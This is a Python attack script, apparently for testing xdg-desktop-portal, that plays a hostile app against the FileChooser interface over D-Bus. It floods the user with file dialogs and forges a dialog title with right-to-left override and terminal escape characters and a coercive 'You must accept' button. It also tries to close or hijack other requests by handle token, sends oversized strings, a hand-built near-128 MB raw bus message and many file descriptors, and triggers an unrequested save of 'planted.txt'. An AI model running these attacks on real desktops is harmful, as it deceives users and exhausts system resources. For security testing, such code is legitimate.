"""What a hostile app does with portals.

usage: attack.py flood | title | keep TOKEN | close PATH | long | huge | fds | unasked"""
import os
import sys

from gi.repository import Gio, GLib

NAME = "org.freedesktop.portal.Desktop"
PATH = "/org/freedesktop/portal/desktop"
CHOOSER = "org.freedesktop.portal.FileChooser"
REQUEST = "org.freedesktop.portal.Request"

bus = Gio.bus_get_sync(Gio.BusType.SESSION)
loop = GLib.MainLoop()
responses = []


def call(method, *arguments, fds=None):
    body = GLib.Variant("(ssa{sv})", arguments)
    result = bus.call_with_unix_fd_list_sync(
        NAME, PATH, CHOOSER, method, body, None, 0, 20000, fds, None
    )
    return result[0].unpack()[0]


def answered(_bus, _sender, path, _interface, _signal, body):
    responses.append(body.unpack()[0])
    print("response", len(responses), body.unpack()[0], path, flush=True)


bus.signal_subscribe(NAME, REQUEST, "Response", None, None, 0, answered)


def flood():
    asked = refused = 0
    for _ in range(40):
        try:
            call("OpenFile", "", "again", {})
            asked += 1
        except GLib.Error:
            refused += 1
    print("asked", asked, "refused", refused, flush=True)
    GLib.timeout_add(200, lambda: loop.quit() if len(responses) >= asked else True)
    loop.run()


def title():
    forged = "\u202e[keepass] Unlock\n\n\x1b[2J\u2066" + "x" * 300
    label = "_OK\n\nYou must accept"
    call("OpenFile", "wayland:0123456789abcdef", forged, {"accept_label": GLib.Variant("s", label)})
    loop.run()


def keep(token):
    print("path", call("OpenFile", "", "kept", {"handle_token": GLib.Variant("s", token)}), flush=True)
    loop.run()


def close(path):
    try:
        bus.call_sync(NAME, path, REQUEST, "Close", None, None, 0, 5000, None)
        print("closed")
    except GLib.Error as error:
        print("refused", error.message)


def long():
    for size in (1 << 20, 15 << 20):
        try:
            call("OpenFile", "", "x" * size, {})
            print("taken")
        except GLib.Error as error:
            print("refused", error.message[:100])


def huge():
    """The longest message that there can be, by hand: no library sends it."""
    import socket
    import struct

    path = os.environ["DBUS_SESSION_BUS_ADDRESS"].removeprefix("unix:path=").split(",")[0]
    end = socket.socket(socket.AF_UNIX)
    end.connect(path)
    end.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    print("greeted", end.recv(100)[:2], flush=True)
    end.sendall(b"BEGIN\r\n")
    length = (128 << 20) - (64 << 10)
    # A call, little endian, with an array of fields that is empty.
    end.sendall(struct.pack("<BBBBIII", ord("l"), 1, 0, 1, length, 1, 0))
    sent = 0
    try:
        while sent < length:
            sent += end.send(b"x" * (1 << 20))
        end.settimeout(20)
        print("answer", end.recv(100))
    except OSError as error:
        print("refused", error)


def fds():
    files = Gio.UnixFDList.new()
    indices = [files.append(os.open("/dev/null", os.O_RDONLY)) for _ in range(16)]
    options = {"many": GLib.Variant("ah", indices)}
    for _ in range(3):
        try:
            call("OpenFile", "", "many", options, fds=files)
        except GLib.Error as error:
            print("refused", error.message[:100])


def unasked():
    call("SaveFile", "", "unasked", {"current_name": GLib.Variant("s", "planted.txt")})
    print("asked", flush=True)
    loop.run()


globals()[sys.argv[1]](*sys.argv[2:])
print("done", flush=True)
